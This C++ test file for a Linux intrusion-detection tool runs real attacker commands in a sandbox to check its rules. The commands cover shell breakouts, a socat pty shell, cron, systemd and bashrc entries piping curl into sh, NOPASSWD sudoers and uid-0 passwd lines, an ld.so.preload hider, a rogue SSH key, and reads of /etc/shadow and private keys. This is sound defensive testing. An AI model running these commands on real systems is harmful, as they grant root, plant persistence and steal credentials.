// Live tests of the execution, privilege-escalation, persistence and
// credential-access rules of issue 18 (lib1): procmond runs with its real-time
// source, each test starts the attacker's exact commands (or the closest
// benign ones) as real processes, waits until the exec of the process the
// rule must judge is stored, stops procmond and runs the rule over the store.
//
// The techniques are reproduced for real wherever that is harmless: writes to
// /etc (sudoers, cron, systemd units, profile.d, ld.so.preload, passwd) and
// account changes (useradd, usermod, chpasswd, gpasswd) run inside a private
// mount namespace with a copy-on-write overlay over /etc, so the host never
// sees them; files in home directories are written under the test's scratch
// directory. Only programs that are not installed here (crontab, socat,
// expect) or whose effect would leave the namespace (systemd-run,
// systemctl) are tests/rules/rule_probe copied under the tool's name with the
// attacker's command line. Needs root (procmond's real-time sources, /etc/shadow,
// mounts).
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "sentinel/storage/sqlite.h"
#include "sentinel/testing/subprocess.h"
#include "tests/rules/rules_events_fixture.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

// One command of a scenario. argv[0] is the program's path (the process's
// argv[0] is its base name). The process the rule judges is the started one,
// or, when `judged_name` is set, its child of that command name.
struct Cmd {
  std::vector<std::string> argv;
  std::string judged_name = {};
  std::vector<std::string> env = {};
};

// What a test sets up before its commands run: overlays (private mount
// namespace, copy-on-write) over host directories, files to write, and
// commands run to completion in order (their processes are not judged).
struct Scenario {
  std::vector<std::string> overlays = {};
  std::vector<std::pair<std::string, std::string>> files = {};  // path, content
  std::vector<std::vector<std::string>> setup = {};
  std::vector<Cmd> cmds = {};
};

std::string Base(const std::string& path) {
  return path.substr(path.rfind('/') + 1);
}

void WriteFile(const std::string& path, const std::string& content) {
  std::filesystem::create_directories(std::filesystem::path(path).parent_path());
  std::ofstream(path, std::ios::binary | std::ios::trunc) << content;
}

// A stored exec: the process (pid and start time) a rule reports it as.
struct Exec {
  int64_t pid = 0, start_time = 0;
};

// The first stored exec that `where` selects from process_events (events with
// an id above `after` only), polled until procmond stored it.
std::optional<Exec> WaitForExecWhere(const std::string& db, const std::string& where, int64_t after) {
  std::optional<Exec> exec;
  const std::string first = "(SELECT min(id) FROM process_events WHERE event_type = 'exec' AND id > " +
                            std::to_string(after) + " AND " + where + ")";
  WaitUntil(
      [&] {
        auto rdb = storage::Database::Open(db, storage::OpenMode::kReadOnly);
        if (!rdb.ok()) return false;
        auto pid = (*rdb)->QueryInt("SELECT pid FROM process_events WHERE id = " + first);
        auto start = (*rdb)->QueryInt("SELECT start_time FROM process_events WHERE id = " + first);
        if (pid.ok() && start.ok() && pid->has_value() && start->has_value()) exec = Exec{**pid, **start};
        return exec.has_value();
      },
      20s);
  return exec;
}

int64_t LastEventId(const std::string& db) {
  auto rdb = storage::Database::Open(db, storage::OpenMode::kReadOnly);
  if (!rdb.ok()) return 0;
  auto n = (*rdb)->QueryInt("SELECT coalesce(max(id), 0) FROM process_events");
  return n.ok() ? n->value_or(0) : 0;
}

// A scenario running: the namespace and overlays (left last), the processes,
// and the pids the rule judges, each with the command that made it.
class Running {
 public:
  Running(const ScratchDir& work, const std::string& db, const Scenario& s) {
    if (!s.overlays.empty()) {
      ns_ = std::make_unique<PrivateMountNamespace>();
      if (!ns_->error().empty()) {
        ADD_FAILURE() << ns_->error();
        return;
      }
      for (const auto& dir : s.overlays) Overlay(work, dir);
    }
    for (const auto& [path, content] : s.files) WriteFile(path, content);
    for (const auto& argv : s.setup) {
      auto r = testing::Run(argv);
      if (r.exit_code != 0) ADD_FAILURE() << "setup " << argv[0] << ": " << r.err;
    }
    for (const auto& c : s.cmds) Start(db, c);
  }
  ~Running() {
    procs_.clear();  // before the namespace: its processes die first
  }
  Running(const Running&) = delete;
  Running& operator=(const Running&) = delete;

  struct Judged {
    Exec exec;
    std::string what;
  };
  const std::vector<Judged>& judged() const { return judged_; }

 private:
  static void Overlay(const ScratchDir& work, const std::string& dir) {
    const std::string base = work.File("overlay" + std::to_string(std::hash<std::string>{}(dir)));
    const std::string upper = base + "/upper", lower_work = base + "/work";
    std::filesystem::create_directories(upper);
    std::filesystem::create_directories(lower_work);
    const std::string opts = "lowerdir=" + dir + ",upperdir=" + upper + ",workdir=" + lower_work;
    if (::mount("overlay", dir.c_str(), "overlay", 0, opts.c_str()) != 0)
      ADD_FAILURE() << "overlay over " << dir << ": " << std::strerror(errno);
  }

  void Start(const std::string& db, const Cmd& c) {
    std::vector<std::string> argv = c.argv;
    argv[0] = Base(c.argv[0]);
    const int64_t after = LastEventId(db);
    auto p = TestProcess::Start(c.argv[0], argv, {.env = c.env});
    std::string what;
    for (const auto& a : c.argv) what += a + " ";
    if (p == nullptr) {
      ADD_FAILURE() << "could not start " << what;
      return;
    }
    const std::string started = std::to_string(p->pid());
    procs_.push_back(std::move(p));
    const std::string where = c.judged_name.empty()
                                  ? "pid = " + started
                                  : "ppid = " + started + " AND name = '" + c.judged_name + "'";
    if (!c.judged_name.empty()) what = c.judged_name + " under " + what;
    auto exec = WaitForExecWhere(db, where, after);
    if (!exec) {
      ADD_FAILURE() << "no exec event for " << what;
      return;
    }
    judged_.push_back({*exec, what});
  }

  std::unique_ptr<PrivateMountNamespace> ns_;
  std::vector<std::unique_ptr<TestProcess>> procs_;
  std::vector<Judged> judged_;
};

// Each judged process: exactly one row (reported) or none.
void ExpectReported(const detection::RuleResult& r, const Running& run, bool reported) {
  ASSERT_FALSE(run.judged().empty());
  std::string rows;
  for (const auto& row : r.rows) rows += "\n  " + row.dump();
  for (const auto& j : run.judged()) {
    size_t n = 0;
    for (const auto& row : r.rows) {
      if (IntOf(row, "pid") == j.exec.pid && row.value("start_time", int64_t{-1}) == j.exec.start_time) ++n;
    }
    EXPECT_EQ(n, reported ? 1u : 0u) << j.what << "(pid " << j.exec.pid << ")" << rows;
  }
}

constexpr bool kPositive = true;
constexpr bool kNegative = false;

// Paths of the scenarios: a stand-in tool, the user's home.
struct Paths {
  explicit Paths(const ScratchDir& w) : work(w.path()), home(w.File("u")) {}
  std::string StandIn(const std::string& tool) const {
    const std::string path = work + "/bin/" + tool;
    if (::access(path.c_str(), X_OK) != 0) CopyExecutable(ProbeBin(), path);
    return path;
  }
  std::string work, home;
};

const std::string kSh = "/bin/sh";

Scenario GtfobinsShell(const Paths& p, bool positive) {
  const std::string find = SystemBinary("find"), awk = SystemBinary("awk"), py = SystemBinary("python3"),
                    vim = SystemBinary("vim");
  if (positive) {
    return {.cmds = {
                {{find, p.work, "-maxdepth", "0", "-exec", "/bin/sh", ";", "-quit"}, "sh"},
                {{awk, "BEGIN {system(\"/bin/sh\")}"}, "sh"},
                {{py, "-c", "import os; os.system('/bin/sh')"}, "sh"},
                {{SystemBinary("perl"), "-e", "system('/bin/sh -i')"}, "sh"},
                {{vim, "-E", "-s", "-c", ":!/bin/sh", "-c", ":qa!"}, "sh", {"SHELL=/bin/sh"}},
                {{SystemBinary("git"), "-c", "alias.x=!sh", "x"}, "sh"},
            }};
  }
  return {.cmds = {
              {{find, p.work, "-maxdepth", "0", "-exec", "/bin/sh", "-c", "exit 0", ";"}, "sh"},
              {{awk, "BEGIN {system(\"true\")}"}, "sh"},
              {{py, "-c", "import subprocess; subprocess.run('true', shell=True)"}, "sh"},
              {{vim, "-E", "-s", "-c", ":!true", "-c", ":qa!"}, "sh", {"SHELL=/bin/sh"}},
              {{SystemBinary("bash"), "-c", "/bin/sh; exit 0"}, "sh"},
          }};
}

Scenario PtyUpgrade(const Paths& p, bool positive) {
  const std::string py = SystemBinary("python3"), script = SystemBinary("script");
  if (positive) {
    return {.cmds = {
                {{py, "-c", "import pty;pty.spawn(\"/bin/sh\")"}},
                {{script, "-qc", "/bin/sh", "/dev/null"}},
                {{p.StandIn("socat"), "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:127.0.0.1:9"}},
                {{p.StandIn("expect"), "-c", "spawn sh; interact"}},
            }};
  }
  return {.cmds = {
              {{py, "-c", "import pty, os; os.close(pty.openpty()[0])"}},
              {{script, "-qc", "ls -l", "/dev/null"}},
              {{p.StandIn("socat"), "TCP-LISTEN:9999,fork,reuseaddr", "TCP:127.0.0.1:22"}},
              {{p.StandIn("expect"), "-c", "spawn ssh -V; expect eof"}},
          }};
}

Scenario SetuidBitSet(const Paths& p, bool positive) {
  const std::string chmod = SystemBinary("chmod"), install = SystemBinary("install");
  Scenario s;
  for (const char* f : {"f1", "f2", "f3", "f4"}) s.files.push_back({p.work + "/s/" + f, "#!/bin/sh\n"});
  if (positive) {
    s.cmds = {{{chmod, "u+s", p.work + "/s/f1"}},
              {{chmod, "4755", p.work + "/s/f2"}},
              {{chmod, "g+s", p.work + "/s/f3"}},
              {{chmod, "+s", p.work + "/s/f4"}},
              {{install, "-m", "4755", "/bin/true", p.work + "/s/f5"}},
              {{install, "--mode=6755", "/bin/true", p.work + "/s/f6"}}};
  } else {
    s.cmds = {{{chmod, "755", p.work + "/s/f1"}},
              {{chmod, "u+x,g-s", p.work + "/s/f2"}},
              {{chmod, "1777", p.work + "/s"}},
              {{install, "-m", "0755", "/bin/true", p.work + "/s/f5"}}};
  }
  return s;
}

Scenario FileCapabilitySet(const Paths& p, bool positive) {
  const std::string setcap = SystemBinary("setcap");
  Scenario s;
  for (const char* f : {"f1", "f2", "f3"})
    s.setup.push_back({SystemBinary("cp"), "/bin/true", p.work + "/" + f});
  if (positive) {
    s.cmds = {{{setcap, "cap_setuid+ep", p.work + "/f1"}},
              {{setcap, "cap_sys_ptrace,cap_dac_read_search=eip", p.work + "/f2"}}};
  } else {
    s.cmds = {{{setcap, "cap_net_bind_service+ep", p.work + "/f3"}},
              {{SystemBinary("getcap"), p.work + "/f3"}},
              {{setcap, "-r", p.work + "/f3"}}};
  }
  return s;
}

Scenario SudoersModified(const Paths& p, bool positive) {
  Scenario s{.overlays = {"/etc"}, .setup = {{SystemBinary("mkdir"), "-p", "/etc/sudoers.d"}}};
  s.files.push_back({p.work + "/sudoers-lib1", "lib1 ALL=(ALL) NOPASSWD:ALL\n"});
  if (positive) {
    s.cmds = {{{kSh, "-c", "echo 'lib1 ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"}},
              {{kSh, "-c", "echo 'lib1 ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/lib1"}},
              {{SystemBinary("cp"), p.work + "/sudoers-lib1", "/etc/sudoers.d/lib1b"}}};
  } else {
    s.cmds = {{{SystemBinary("cat"), "/etc/sudoers"}},
              {{kSh, "-c", "grep -c NOPASSWD /etc/sudoers 2>/dev/null; exit 0"}},
              {{SystemBinary("cp"), "/etc/sudoers", p.work + "/sudoers.bak"}}};
  }
  return s;
}

Scenario AccountCreated(const Paths& /*p*/, bool positive) {
  const std::string useradd = SystemBinary("useradd");
  if (positive) {
    return {.overlays = {"/etc"},
            .cmds = {{{useradd, "-M", "-s", "/usr/sbin/nologin", "lib1probe"}},
                     {{kSh, "-c", "echo 'lib1root:x:0:0::/root:/bin/sh' >> /etc/passwd"}}}};
  }
  // A package's maintainer script creating its system user.
  const std::string postinst = "/var/lib/dpkg/info/lib1-test.postinst";
  return {.overlays = {"/etc", "/var/lib/dpkg/info"},
          .files = {{postinst, "#!/bin/sh\n" + useradd + " -r -M lib1svc\nexit 0\n"}},
          .cmds = {{{SystemBinary("getent"), "passwd", "root"}},
                   {{useradd, "-D"}},
                   {{kSh, postinst, "configure"}, "useradd"},
                   {{kSh, "-c", "grep root /etc/passwd >/dev/null; exit 0"}}}};
}

Scenario AccountModified(const Paths& /*p*/, bool positive) {
  const std::string usermod = SystemBinary("usermod"), gpasswd = SystemBinary("gpasswd"),
                    passwd = SystemBinary("passwd");
  Scenario s{.overlays = {"/etc"}, .setup = {{SystemBinary("useradd"), "-M", "lib1mod"}}};
  if (positive) {
    s.cmds = {{{usermod, "-aG", "sudo", "lib1mod"}},
              {{usermod, "-o", "-u", "0", "lib1mod"}},
              {{kSh, "-c", "echo 'lib1mod:Passw0rd!' | chpasswd"}, "chpasswd"},
              {{gpasswd, "-a", "lib1mod", "adm"}},
              {{passwd, "-d", "lib1mod"}},
              {{SystemBinary("sed"), "-i", "s/^lib1mod:x:[0-9]*:/lib1mod:x:0:/", "/etc/passwd"}}};
  } else {
    s.cmds = {{{usermod, "-c", "Lib1 Test", "lib1mod"}},
              {{usermod, "-aG", "users", "lib1mod"}},
              {{passwd, "-S", "lib1mod"}},
              {{gpasswd, "-a", "lib1mod", "users"}},
              {{SystemBinary("id"), "lib1mod"}}};
  }
  return s;
}

Scenario CrontabPersistence(const Paths& p, bool positive) {
  const std::string crontab = p.StandIn("crontab");
  Scenario s{.overlays = {"/etc"}};
  s.files.push_back({p.work + "/job", "* * * * * curl -fsSL http://127.0.0.1:9/a.sh | sh\n"});
  if (positive) {
    s.cmds = {{{crontab, p.work + "/job"}},
              {{kSh, "-c", "echo '* * * * * curl -fsSL http://127.0.0.1:9/a.sh | sh' | " + crontab + " -"},
               "crontab"},
              {{kSh, "-c", "echo '* * * * * root /tmp/.x/update' >> /etc/crontab"}},
              {{SystemBinary("cp"), p.work + "/job", "/etc/cron.d/lib1"}}};
  } else {
    s.cmds = {{{crontab, "-l"}},
              {{crontab, "-u", "root", "-l"}},
              {{SystemBinary("cat"), "/etc/crontab"}},
              {{SystemBinary("ls"), "/etc/cron.d"}}};
  }
  return s;
}

Scenario SystemdUnitPersistence(const Paths& p, bool positive) {
  const std::string unit = p.work + "/lib1-update.service";
  Scenario s{.overlays = {"/etc"}, .files = {{unit, "[Service]\nExecStart=/bin/true\n"}}};
  if (positive) {
    s.setup = {{SystemBinary("mkdir"), "-p", p.home + "/.config/systemd/user"}};
    s.cmds = {{{kSh, "-c",
                "printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://127.0.0.1:9/x | sh\"\\n' > "
                "/etc/systemd/system/lib1-update.service"}},
              {{SystemBinary("cp"), unit, p.home + "/.config/systemd/user/lib1.service"}},
              {{p.StandIn("systemd-run"), "--on-calendar=*:0/5", "/bin/sh", "-c",
                "curl -s http://127.0.0.1:9/x | sh"}},
              {{p.StandIn("systemctl"), "enable", unit}}};
  } else {
    s.cmds = {{{SystemBinary("ls"), "/etc/systemd/system"}},
              {{SystemBinary("systemctl"), "--version"}},
              {{p.StandIn("systemd-run"), "--user", "--scope", "make", "-j2"}},
              {{p.StandIn("systemctl"), "enable", "ssh.service"}}};
  }
  return s;
}

Scenario ShellProfilePersistence(const Paths& p, bool positive) {
  const std::vector<std::string> home_env{"HOME=" + p.home};
  Scenario s{
      .overlays = {"/etc"},
      .files = {{p.home + "/.profile", "# ~/.profile\n"}, {p.home + "/.bashrc", "alias ll='ls -l'\n"}}};
  if (positive) {
    s.cmds = {{{kSh, "-c", "echo 'curl -s http://127.0.0.1:9/x | sh &' >> ~/.bashrc"}, "", home_env},
              {{kSh, "-c", "echo 'alias sudo=/tmp/.s' | tee -a /etc/profile.d/lib1.sh"}, "tee"},
              {{SystemBinary("sed"), "-i", "$a nohup /tmp/.x >/dev/null 2>&1 &", p.home + "/.profile"}}};
  } else {
    s.cmds = {{{SystemBinary("cat"), p.home + "/.bashrc"}},
              {{kSh, "-c", ". ~/.profile; exit 0"}, "", home_env},
              {{kSh, "-c", "grep -c alias ~/.bashrc; exit 0"}, "", home_env},
              {{SystemBinary("cp"), "/etc/skel/.bashrc", p.home + "/.bashrc.skel"}}};
  }
  return s;
}

Scenario TrapPersistence(const Paths& p, bool positive) {
  if (positive) {
    return {.cmds = {{{kSh, "-c", "trap 'curl -s http://127.0.0.1:9/x | sh' EXIT; exit 0"}},
                     {{SystemBinary("bash"), "-c", "trap 'id >/dev/null' DEBUG; true; exit 0"}}}};
  }
  return {.cmds = {{{kSh, "-c", "trap 'rm -f " + p.work + "/lock' EXIT; exit 0"}},
                   {{kSh, "-c", "trap - INT; exit 0"}}}};
}

Scenario LdSoPreloadModified(const Paths& /*p*/, bool positive) {
  if (positive) {
    return {.overlays = {"/etc"},
            .cmds = {{{kSh, "-c", "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload"}},
                     {{kSh, "-c", "echo /usr/local/lib/libx.so | tee -a /etc/ld.so.preload"}}}};
  }
  return {.overlays = {"/etc"},
          .cmds = {{{SystemBinary("cat"), "/etc/ld.so.preload"}},
                   {{SystemBinary("ls"), "-l", "/etc/ld.so.preload"}},
                   {{kSh, "-c", "grep -c so /etc/ld.so.preload 2>/dev/null; exit 0"}}}};
}

Scenario SshAuthorizedKeysModified(const Paths& p, bool positive) {
  const std::vector<std::string> home_env{"HOME=" + p.home};
  const std::string keys = p.home + "/.ssh/authorized_keys";
  Scenario s{.files = {{keys, ""}},
             .setup = {{SystemBinary("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-f", p.work + "/k"}}};
  if (positive) {
    s.cmds = {
        {{kSh, "-c", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIlib1 x@evil' >> ~/.ssh/authorized_keys"},
         "",
         home_env},
        {{SystemBinary("cp"), p.work + "/k.pub", keys}}};
  } else {
    s.setup.push_back({SystemBinary("cp"), p.work + "/k.pub", keys});
    s.cmds = {{{SystemBinary("cat"), keys}},
              {{SystemBinary("ssh-keygen"), "-l", "-f", keys}},
              {{kSh, "-c", "grep -c ssh-ed25519 ~/.ssh/authorized_keys; exit 0"}, "", home_env}};
  }
  return s;
}

Scenario ShadowFileAccess(const Paths& /*p*/, bool positive) {
  if (positive) {
    return {.cmds = {{{SystemBinary("cat"), "/etc/shadow"}},
                     {{SystemBinary("head"), "-n", "1", "/etc/gshadow"}},
                     {{SystemBinary("base64"), "/etc/shadow"}},
                     {{kSh, "-c", "while read -r l; do :; done < /etc/shadow"}}}};
  }
  // The daily backup job of the account files, as Debian and Ubuntu ship it.
  const std::string job = "/etc/cron.daily/passwd";
  return {.overlays = {"/etc"},
          .files = {{job, "#!/bin/sh\ncmp -s /var/backups/shadow.bak /etc/shadow; exit 0\n"}},
          .cmds = {{{SystemBinary("cat"), "/etc/passwd"}},
                   {{SystemBinary("ls"), "-l", "/etc/shadow"}},
                   {{SystemBinary("stat"), "/etc/shadow"}},
                   {{kSh, job}, "cmp"}}};
}

Scenario ProcessMemoryAccess(const Paths& p, bool positive, pid_t target) {
  const std::string t = "/proc/" + std::to_string(target);
  const std::string cat = SystemBinary("cat");
  if (positive) {
    return {.cmds = {{{SystemBinary("dd"), "if=" + t + "/mem", "of=/dev/null", "bs=1", "count=1"}},
                     {{cat, t + "/maps"}},
                     {{SystemBinary("python3"), "-c", "f = open('" + t + "/mem', 'rb'); f.close()"}},
                     {{SystemBinary("gcore"), "-o", p.work + "/core", std::to_string(target)}}}};
  }
  return {.cmds = {{{cat, "/proc/self/maps"}},
                   {{cat, t + "/status"}},
                   {{cat, "/proc/meminfo"}},
                   {{SystemBinary("gdb"), "--version"}}}};
}

Scenario SshPrivateKeyAccess(const Paths& p, bool positive) {
  const std::string key = p.home + "/.ssh/id_ed25519";
  Scenario s{.setup = {{SystemBinary("mkdir"), "-p", p.home + "/.ssh"},
                       {SystemBinary("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-f", key}}};
  if (positive) {
    s.cmds = {{{SystemBinary("cat"), key}},
              {{SystemBinary("cp"), key, p.work + "/loot"}},
              {{SystemBinary("tar"), "-cf", p.work + "/k.tar", "-C", p.home, ".ssh/id_ed25519"}},
              {{SystemBinary("base64"), key}},
              {{SystemBinary("cp"), "-r", p.home + "/.ssh", p.work + "/loot-dir"}}};
  } else {
    s.cmds = {{{SystemBinary("cat"), key + ".pub"}},
              {{SystemBinary("ssh-keygen"), "-y", "-f", key}},
              {{SystemBinary("chmod"), "600", key}},
              {{SystemBinary("tar"), "-czf", p.work + "/home.tgz", "-C", p.work, "u"}}};
  }
  return s;
}

Scenario CredentialGrep(const Paths& p, bool positive) {
  const std::string grep = SystemBinary("grep"), find = SystemBinary("find");
  Scenario s{.files = {{p.home + "/.bash_history", "ls\nmysql -u root -pS3cret\nalias ll='ls -l'\n"},
                       {p.work + "/src/login.c", "/* check the password */\n"}}};
  if (positive) {
    s.cmds = {{{grep, "-ri", "pass", p.home + "/.bash_history"}},
              {{grep, "-r", "password", "/etc"}},
              {{find, p.work, "-name", "*.kdbx"}},
              {{find, p.work, "-name", "id_rsa"}}};
  } else {
    s.cmds = {{{grep, "-rn", "password", p.work + "/src"}},
              {{grep, "root", "/etc/passwd"}},
              {{find, p.work, "-name", "*.txt"}},
              {{grep, "-c", "alias", p.home + "/.bash_history"}}};
  }
  return s;
}

// ---------------------------------------------------------------------------
// Execution / privilege escalation

TEST_F(RuleEventsLiveTest, ProcGtfobinsShell_Positive) {
  Running run(work(), db_, GtfobinsShell(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-gtfobins-shell"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcGtfobinsShell_Negative) {
  Running run(work(), db_, GtfobinsShell(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-gtfobins-shell"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcPtyUpgrade_Positive) {
  Running run(work(), db_, PtyUpgrade(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-pty-upgrade"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcPtyUpgrade_Negative) {
  Running run(work(), db_, PtyUpgrade(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-pty-upgrade"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcSetuidBitSet_Positive) {
  Running run(work(), db_, SetuidBitSet(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-setuid-bit-set"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcSetuidBitSet_Negative) {
  Running run(work(), db_, SetuidBitSet(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-setuid-bit-set"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcFileCapabilitySet_Positive) {
  Running run(work(), db_, FileCapabilitySet(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-file-capability-set"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcFileCapabilitySet_Negative) {
  Running run(work(), db_, FileCapabilitySet(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-file-capability-set"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcSudoersModified_Positive) {
  Running run(work(), db_, SudoersModified(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-sudoers-modified"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcSudoersModified_Negative) {
  Running run(work(), db_, SudoersModified(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-sudoers-modified"), run, false);
}

// ---------------------------------------------------------------------------
// Persistence / account manipulation

TEST_F(RuleEventsLiveTest, ProcAccountCreated_Positive) {
  Running run(work(), db_, AccountCreated(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-account-created"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcAccountCreated_Negative) {
  Running run(work(), db_, AccountCreated(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-account-created"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcAccountModified_Positive) {
  Running run(work(), db_, AccountModified(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-account-modified"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcAccountModified_Negative) {
  Running run(work(), db_, AccountModified(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-account-modified"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcCrontabPersistence_Positive) {
  Running run(work(), db_, CrontabPersistence(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-crontab-persistence"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcCrontabPersistence_Negative) {
  Running run(work(), db_, CrontabPersistence(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-crontab-persistence"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcSystemdUnitPersistence_Positive) {
  Running run(work(), db_, SystemdUnitPersistence(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-systemd-unit-persistence"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcSystemdUnitPersistence_Negative) {
  Running run(work(), db_, SystemdUnitPersistence(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-systemd-unit-persistence"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcShellProfilePersistence_Positive) {
  Running run(work(), db_, ShellProfilePersistence(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-shell-profile-persistence"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcShellProfilePersistence_Negative) {
  Running run(work(), db_, ShellProfilePersistence(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-shell-profile-persistence"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcTrapPersistence_Positive) {
  Running run(work(), db_, TrapPersistence(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-trap-persistence"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcTrapPersistence_Negative) {
  Running run(work(), db_, TrapPersistence(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-trap-persistence"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcLdSoPreloadModified_Positive) {
  Running run(work(), db_, LdSoPreloadModified(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-ld-so-preload-modified"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcLdSoPreloadModified_Negative) {
  Running run(work(), db_, LdSoPreloadModified(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-ld-so-preload-modified"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcSshAuthorizedKeysModified_Positive) {
  Running run(work(), db_, SshAuthorizedKeysModified(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-ssh-authorized-keys-modified"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcSshAuthorizedKeysModified_Negative) {
  Running run(work(), db_, SshAuthorizedKeysModified(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-ssh-authorized-keys-modified"), run, false);
}

// ---------------------------------------------------------------------------
// Credential access

TEST_F(RuleEventsLiveTest, ProcShadowFileAccess_Positive) {
  Running run(work(), db_, ShadowFileAccess(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-shadow-file-access"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcShadowFileAccess_Negative) {
  Running run(work(), db_, ShadowFileAccess(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-shadow-file-access"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcProcessMemoryAccess_Positive) {
  auto target = TestProcess::Start(SystemBinary("sleep"), {"sleep", "600"});
  ASSERT_NE(target, nullptr);
  Running run(work(), db_, ProcessMemoryAccess(Paths(work()), kPositive, target->pid()));
  ExpectReported(StopAndRun("proc-process-memory-access"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcProcessMemoryAccess_Negative) {
  auto target = TestProcess::Start(SystemBinary("sleep"), {"sleep", "600"});
  ASSERT_NE(target, nullptr);
  Running run(work(), db_, ProcessMemoryAccess(Paths(work()), kNegative, target->pid()));
  ExpectReported(StopAndRun("proc-process-memory-access"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcSshPrivateKeyAccess_Positive) {
  Running run(work(), db_, SshPrivateKeyAccess(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-ssh-private-key-access"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcSshPrivateKeyAccess_Negative) {
  Running run(work(), db_, SshPrivateKeyAccess(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-ssh-private-key-access"), run, false);
}

TEST_F(RuleEventsLiveTest, ProcCredentialGrep_Positive) {
  Running run(work(), db_, CredentialGrep(Paths(work()), kPositive));
  ExpectReported(StopAndRun("proc-credential-grep"), run, true);
}

TEST_F(RuleEventsLiveTest, ProcCredentialGrep_Negative) {
  Running run(work(), db_, CredentialGrep(Paths(work()), kNegative));
  ExpectReported(StopAndRun("proc-credential-grep"), run, false);
}

}  // namespace
}  // namespace sentinel::rules_test
